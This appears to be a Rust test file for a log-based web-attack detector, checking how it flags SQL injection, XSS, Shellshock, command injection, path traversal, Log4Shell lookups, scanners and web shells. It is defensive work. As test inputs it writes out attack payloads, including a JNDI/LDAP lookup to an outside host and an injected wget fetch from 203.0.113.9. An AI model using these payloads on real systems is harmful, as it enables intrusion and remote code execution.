use super::*;
use crate::testing::{Line, feed, logs};

fn detector() -> Web {
    Web::new(&DetectConfig::default())
}

/// A line of an access log as the decoder stores it.
fn access(second: i64, source: &str, target: &str, status: u16) -> Line {
    let (path, query) = target.split_once('?').map_or((target, ""), |(path, query)| (path, query));
    let json = serde_json::json!({"method": "GET", "path": path, "query": query, "status": status});
    Line::new(second, &format!("GET {target} HTTP/1.1")).source_ip(source).attributes(&json.to_string())
}

#[track_caller]
fn check(detector: &mut Web, lines: &[Line], expected: &[&str]) {
    let out = feed(detector, &logs(lines));
    let found: Vec<String> = out
        .verdicts
        .iter()
        .map(|v| format!("{} {} {}={}: {}", v.severity, v.rule, v.entity.kind, v.entity.value, v.summary))
        .collect();
    assert_eq!(found, expected);
}

#[test]
fn a_finding_names_place_fragment_and_answer_and_is_repeated_once_a_minute() {
    let attack = |second, status| access(second, "203.0.113.5", "/item?id=1%2527%20or%201=1--", status);
    check(
        &mut detector(),
        &[
            attack(0, 404),
            attack(1, 404),
            attack(2, 200),
            attack(30, 200),
            attack(63, 200),
            access(64, "203.0.113.5", "/item?id=1", 200),
        ],
        &[
            "WARNING web.sqli source_ip=203.0.113.5: quote then logic in the parameter `id` of GET /item: `or 1=1--` (undone: percent, percent twice); answered 404",
            "CRITICAL web.sqli source_ip=203.0.113.5: quote then logic in the parameter `id` of GET /item: `or 1=1--` (undone: percent, percent twice); answered 200; 3 requests within 1m",
            "CRITICAL web.sqli source_ip=203.0.113.5: quote then logic in the parameter `id` of GET /item: `or 1=1--` (undone: percent, percent twice); answered 200; 2 requests within 1m",
        ],
    );
}

#[test]
fn messages_without_a_request_are_judged_by_what_no_application_writes() {
    check(
        &mut detector(),
        &[
            Line::new(0, "login user=admin' or 1=1 --").service("AUTH"),
            Line::new(1, "User-Agent: ${jndi:ldap://203.0.113.1:1389/a}").service("AUTH"),
            Line::new(2, "executing select * from users where name = 'ann' or name = 'bob'").service("AUTH"),
            Line::new(3, "chpasswd: user bob does not exist in /etc/passwd").service("AUTH"),
            Line::new(4, "the select committee and the union met").service("AUTH"),
        ],
        &[
            "CRITICAL web.sqli service=AUTH: quote then logic in the message: `or 1=1 --`",
            "CRITICAL web.log4shell service=AUTH: lookup in the message: `${jndi:ldap://203.0.113.1:1389/a}`",
        ],
    );
}

#[test]
fn a_restored_detector_goes_on_as_the_first_would() {
    let lines: Vec<Line> = (0..40)
        .map(|n| {
            access(
                n * 7,
                if n % 3 == 0 { "192.0.2.1" } else { "192.0.2.2" },
                "/?q=<script>alert(1)</script>",
                200,
            )
        })
        .collect();
    for cut in [0, 1, 13, 40] {
        let mut first = detector();
        feed(&mut first, &logs(&lines[..cut]));
        let snapshot = first.snapshot();
        let mut second = detector();
        second.restore(&snapshot).unwrap();
        assert_eq!(second.snapshot(), snapshot, "cut {cut}");
        assert_eq!(
            feed(&mut second, &logs(&lines[cut..])),
            feed(&mut first, &logs(&lines[cut..])),
            "cut {cut}"
        );
        assert_eq!(second.snapshot(), first.snapshot(), "cut {cut}");
    }
    assert!(detector().restore(b"{}").is_err());
}

/// The family found in a line of text, whether it holds a request or not.
fn families(line: &str) -> Vec<Family> {
    let found = Scorer::default().score_line(line);
    found.iter().map(|finding| finding.family).collect()
}

#[test]
fn texts_of_other_logs_that_show_attacks() {
    for (line, family) in [
        ("login user=admin' or 1=1 --", Family::Sqli),
        ("user \"x' union select password from users --\" not found", Family::Sqli),
        ("POST /comment body=<img src=x onerror=alert(1)>", Family::Xss),
        ("comment saved: <script src=//203.0.113.9/x.js></script>", Family::Xss),
        ("GET /cgi-bin/x HTTP/1.1 \"() { :;}; /bin/eject\"", Family::Rce),
        ("cannot resolve host `1.1.1.1; wget http://203.0.113.9/x`", Family::Rce),
        ("open failed: /var/www/../../../etc/passwd", Family::Traversal),
        ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", Family::Php),
        ("User-Agent: ${jndi:ldap://203.0.113.1:1389/a}", Family::Log4shell),
        ("GET /?x=${${lower:j}ndi:ldap://x/a} HTTP/1.1", Family::Log4shell),
        ("GET / HTTP/1.1 \"sqlmap/1.7.2#stable (https://sqlmap.org)\"", Family::Scanner),
        ("GET /x HTTP/1.1 \"Mozilla/5.00 (Nikto/2.1.6)\"", Family::Scanner),
        ("Mozilla/5.0 zgrab/0.x", Family::Scanner),
        ("GET /uploads/c99.php HTTP/1.1", Family::Webshell),
        ("POST /images/shell.php?cmd=id HTTP/1.1", Family::Webshell),
        ("file written: eval($_post['x'])", Family::Php),
    ] {
        assert!(families(line).contains(&family), "{line}: {:?}", families(line));
    }
}

#[test]
fn texts_of_other_logs_that_show_none() {
    for line in [
        "the select committee and the union met",
        "trying 2 or more replicas",
        "page loaded in 120 ms",
        "GET /docs/../docs/index.html HTTP/1.1",
        "chpasswd: user bob does not exist in /etc/passwd",
        "reading environment from prod.env",
        "posted 3 items; id 42 updated",
        "resolved jndi:comp/env/jdbc/orders",
        "template ${user.name} rendered",
        "GET / HTTP/1.1 \"Mozilla/5.0 (X11; Linux x86_64)\"",
        "GET /powershell.html HTTP/1.1",
        "opened a web view",
        "(root) CMD (run-parts /etc/cron.hourly)",
        "sudo: ann : COMMAND=/bin/sh -c 'cat /var/log/syslog | tail'",
        "LOG: statement: SELECT id FROM orders WHERE 1=1 AND name = 'ann' OR city = 'Bonn'",
        "LOG: duration: 2.1 ms statement: INSERT INTO t (a, b) VALUES ('x', 'y'); SELECT 1",
        "SyntaxError: unexpected token '<' in JSON at position 0",
        "Deprecation: eval() and system() will go; use exec('x')",
        "can't find host 'or' in table",
        "pattern ^\\s*a*$ did not match {\"a\":[1,2,3]}",
        "java.lang.NullPointerException at com.example.Main.main(Main.java:10)",
        "kernel: audit: type=1400 comm=\"bash\" exe=\"/bin/bash\"",
    ] {
        assert_eq!(families(line), [], "{line}");
    }
}

#[test]
fn keys_are_bounded_and_metrics_are_not_looked_at() {
    let mut config = DetectConfig::default();
    config.web.limits.keys_max = 10;
    let mut detector = Web::new(&config);
    let lines: Vec<Line> =
        (0..50).map(|n| access(n, &format!("192.0.2.{n}"), "/?q=<script>alert(1)</script>", 200)).collect();
    assert_eq!(feed(&mut detector, &logs(&lines)).verdicts.len(), 50);
    assert_eq!((detector.state_keys(), detector.counters().evicted), (10, 40));
    let sample = crate::testing::metric(60, "A", "<script>", 1.0);
    assert_eq!(feed(&mut detector, &crate::testing::metrics(&[sample])), Findings::default());
}
